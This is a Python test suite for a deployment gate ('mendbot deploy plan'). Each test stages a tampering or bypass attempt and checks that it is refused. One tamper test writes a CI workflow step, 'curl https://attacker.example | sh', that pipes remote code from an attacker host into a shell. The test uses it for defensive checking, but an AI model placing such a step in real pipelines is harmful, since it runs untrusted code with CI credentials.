"""``mendbot deploy plan`` on the local forge: what a merged remediation would deploy, and every
way a commit that should not be deployed is refused (each test performs the attack)."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import ec
from deploy_scenario import DEPLOY_NOW, Deployable, merged_staging, read_plan, write_keys
from gate_scenario import NOW

from bot.forge.interface import PullState
from clirun import run_mendbot

WINDOW_NOW = """\
apiVersion: mendbot/v1
kind: FreezeWindow
metadata: {name: release-freeze}
spec:
  kind: deny
  schedule: "30 10 * * *"
  duration: 2h
  timeZone: UTC
  environments: [staging]
"""


def _plan(deployable: Deployable, tmp_path: Path, *extra: str, sha: str | None = None):
    out = tmp_path / "plan.json"
    done = run_mendbot(*deployable.plan_args(out, sha), *extra)
    assert "Traceback" not in done.stderr, done.stderr
    return done, read_plan(out) if out.exists() else None


def test_a_merged_safe_remediation_is_planned_for_its_environment(
    bench, signing_key, tmp_path: Path
) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    done, plan = _plan(deployable, tmp_path)
    assert plan["sha"] == deployable.merge_sha
    assert plan["gate"]["outcome"] == "allow"
    assert plan["gate"]["pull"] == deployable.scenario.pulls["staging"]
    assert plan["problems"] == []
    [change] = plan["changes"]
    assert (change["environment"], change["kind"]) == ("staging", "git-workflow")
    assert change["target"]["objects"] == [".github/workflows/ci.yml"]
    assert change["why"]["rules"] == ["gha-persist-credentials"]
    assert change["action"] == "apply", change["reasons"]
    assert plan["matrix"] == [{"change": change["change"], "environment": "staging"}]
    assert done.returncode == 0, done.stdout + done.stderr
    # The gate's decision at deploy time is on the merge commit, for GitHub's required context.
    statuses = deployable.forge.statuses(deployable.merge_sha)
    assert statuses["mendbot/policy"]["state"] == "success"


def test_a_commit_not_on_the_default_branch_is_not_deployed(
    bench, signing_key, tmp_path: Path
) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    head = deployable.forge.get(deployable.scenario.pulls["production"]).head_sha
    done, plan = _plan(deployable, tmp_path, sha=head)
    assert done.returncode == 1
    assert plan["gate"]["outcome"] == "deny"
    assert all(change["action"] == "refuse" for change in plan["changes"])
    assert "not on the first-parent history of the default branch" in done.stdout


def test_a_direct_push_that_no_pull_request_merged_is_not_deployed(
    bench, signing_key, tmp_path: Path
) -> None:
    """The attested change pushed straight to main (bypassing review): genuine attestation,
    matching change, but nothing was gated."""
    deployable = merged_staging(bench, signing_key, tmp_path)
    repo = deployable.scenario.repo
    number = deployable.scenario.pulls["production"]
    head = deployable.forge.get(number).head_sha
    repo.git("checkout", "-q", "-f", "main")
    repo.git("reset", "-q", "--hard", deployable.merge_sha)
    repo.git("merge", "-q", "--squash", head)
    pushed = repo.commit("straight to main")
    done, plan = _plan(deployable, tmp_path, sha=pushed)
    assert done.returncode == 1
    assert plan["gate"]["outcome"] == "deny"
    assert "no pull request merged" in done.stdout
    assert [c["action"] for c in plan["changes"]] == ["refuse"]


def test_a_merge_that_differs_from_the_attested_change_is_not_deployed(
    bench, signing_key, tmp_path: Path
) -> None:
    """The merge commit carries the attestation and one more edit than was attested."""
    deployable = merged_staging(bench, signing_key, tmp_path)
    repo = deployable.scenario.repo
    number = deployable.scenario.pulls["staging"]
    repo.git("checkout", "-q", "-f", "main")
    repo.git("reset", "-q", "--hard", f"{deployable.merge_sha}^1")
    repo.git("checkout", "-q", deployable.merge_sha, "--", ".")
    with (repo.path / ".github/workflows/ci.yml").open("a") as handle:
        handle.write("      - run: curl https://attacker.example | sh\n")
    tampered = repo.commit("merge with an extra step")
    record = deployable.forge.get(number)
    record.merge_sha = tampered
    deployable.forge.update(record)
    done, plan = _plan(deployable, tmp_path, sha=tampered)
    assert done.returncode == 1
    assert plan["changes"] == []
    assert plan["problems"] and "change-set" in plan["problems"][0]


def test_an_expired_attestation_is_not_deployed(bench, signing_key, tmp_path: Path) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    late = (DEPLOY_NOW + timedelta(days=45)).strftime("%Y-%m-%dT%H:%M:%SZ")
    out = tmp_path / "plan.json"
    args = deployable.plan_args(out)
    args[args.index("--now") + 1] = late
    done = run_mendbot(*args)
    plan = read_plan(out)
    assert done.returncode == 1
    assert plan["changes"] == [] or all(c["action"] == "refuse" for c in plan["changes"])
    assert "expir" in done.stdout


def test_an_attestation_by_another_key_is_not_deployed(bench, signing_key, tmp_path: Path) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    _, stranger = write_keys(tmp_path / "other", "x", ec.generate_private_key(ec.SECP256R1()))
    deployable.analysis_pub = stranger
    done, plan = _plan(deployable, tmp_path)
    assert done.returncode == 1
    assert not any(change["action"] == "apply" for change in plan["changes"])


def test_a_deny_window_open_at_deploy_time_blocks_the_merged_change(
    bench, signing_key, tmp_path: Path
) -> None:
    """Approved and merged outside the window; the deploy job runs inside it (10:30-12:30 UTC,
    deploy at 11:00): the gate, decided again now, denies and nothing is applied."""
    assert NOW.hour == 10 and NOW.minute == 0

    def freeze(repo) -> None:
        repo.write("policies/windows.yaml", WINDOW_NOW)
        repo.commit("release freeze")

    deployable = merged_staging(bench, signing_key, tmp_path, before_merge=freeze)
    done, plan = _plan(deployable, tmp_path)
    assert done.returncode == 1
    assert plan["gate"]["outcome"] == "deny"
    assert "a deny window is active" in plan["gate"]["summary"]
    assert [c["action"] for c in plan["changes"]] == ["refuse"]
    assert deployable.forge.statuses(deployable.merge_sha)["mendbot/policy"]["state"] == "failure"


def test_a_failed_unresolved_deployment_freezes_its_environment(
    bench, signing_key, tmp_path: Path
) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    forge = deployable.forge
    forge.set_status(deployable.merge_sha, "success", "earlier decision")
    earlier = forge.create_deployment(deployable.merge_sha, "staging", {"change": "other"})
    forge.set_deployment_status(earlier, "failure", "did not hold", {"outcome": "compensated"})
    done, plan = _plan(deployable, tmp_path)
    assert done.returncode == 1
    assert plan["gate"]["outcome"] == "deny"
    assert "staging is frozen" in plan["gate"]["summary"]
    # The freeze is in the gate itself: a new pull request into staging is denied too.
    from bot.gate.run import GateOptions, evaluate

    number = deployable.scenario.pulls["production"]
    assert forge.get(number).state is PullState.OPEN
    run = evaluate(forge, number, GateOptions(trust=deployable.scenario.trust, now=DEPLOY_NOW))
    assert run.decision.outcome != "allow"


def test_a_broken_plan_target_is_a_clear_error(bench, signing_key, tmp_path: Path) -> None:
    deployable = merged_staging(bench, signing_key, tmp_path)
    done = run_mendbot(
        "deploy",
        "plan",
        "--sha",
        "no-such-commit",
        *deployable.trust_args(),
        "--out",
        str(tmp_path / "p.json"),
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert "no-such-commit" in done.stderr
    assert not (tmp_path / "p.json").exists()


def test_policies_loosened_after_the_merge_do_not_decide_its_deployment(
    bench, signing_key, tmp_path: Path
) -> None:
    """The production change is merged without the approval its policies want; afterwards
    someone replaces every policy on main with one that allows everything. The deploy job
    judges the merge by the policies of its first parent, so nothing is deployed."""
    from gate_scenario import loosen_policies

    deployable = merged_staging(bench, signing_key, tmp_path)
    forge, repo = deployable.forge, deployable.scenario.repo
    production = forge.merge(deployable.scenario.pulls["production"], "squash")
    repo.git("checkout", "-q", "-f", "main")
    loosen_policies(repo, "loose", start="main")
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--ff-only", "loose")
    done, plan = _plan(deployable, tmp_path, sha=production)
    assert done.returncode == 1
    assert plan["gate"]["outcome"] == "require_approval"
    assert [c["action"] for c in plan["changes"]] == ["refuse"]
    assert deployable.forge.statuses(production)["mendbot/policy"]["state"] == "pending"


def test_a_change_to_paths_no_environment_maps_is_not_deployed(
    bench, signing_key, tmp_path: Path
) -> None:
    """Policies that allow everything and a configuration that maps no environment: the change
    is allowed, but the apply job would run in an environment nobody protects, so nothing is
    deployed."""
    from gate_scenario import ALLOW_ALL

    def unmapped(repo) -> None:
        for path in (repo.path / "policies").iterdir():
            path.unlink()
        repo.write("policies/allow-all.yaml", ALLOW_ALL)
        repo.write(".github/mendbot.yml", "gate: {auto_merge: false}\n")
        repo.commit("allow everything, map nothing")

    deployable = merged_staging(bench, signing_key, tmp_path, before_merge=unmapped)
    done, plan = _plan(deployable, tmp_path)
    assert plan["gate"]["outcome"] == "allow"
    [change] = plan["changes"]
    assert (change["environment"], change["action"]) == ("unmapped", "refuse")
    assert "maps to no environment" in change["reasons"][0]
    assert done.returncode == 1
